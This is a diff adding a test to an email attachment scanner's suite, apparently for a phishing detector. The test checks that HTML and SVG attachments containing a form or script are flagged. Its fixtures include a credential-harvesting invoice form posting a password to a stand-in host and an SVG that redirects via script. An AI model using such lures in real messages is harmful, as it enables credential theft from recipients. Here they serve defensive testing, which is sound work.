@@ -98,6 +98,12 @@ describe('attachment checks', () => {
     assert.ok(signals.some((s) => s.name === 'attachment-eicar'));
   });
 
+  it('flags an HTML or SVG attachment that carries a form or a script', () => {
+    assert.ok(signalsFor({ type: 'text/html', filename: 'Invoice_0423.html', body: '<html><form action="https://collect.example.org"><input type="password"></form></html>' }).has('attachment-html-active'));
+    assert.ok(signalsFor({ type: 'image/svg+xml', filename: 'fax.svg', body: '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example.org"</script></svg>' }).has('attachment-html-active'));
+    assert.ok(!signalsFor({ type: 'text/html', filename: 'receipt.html', body: '<html><body><p>Thank you for your order.</p></body></html>' }).has('attachment-html-active'));
+  });
+
   it('raises nothing for an ordinary PDF, image or plain zip', () => {
     assert.deepEqual([...signalsFor(
       { type: 'application/pdf', filename: 'minutes.pdf', body: PDF },
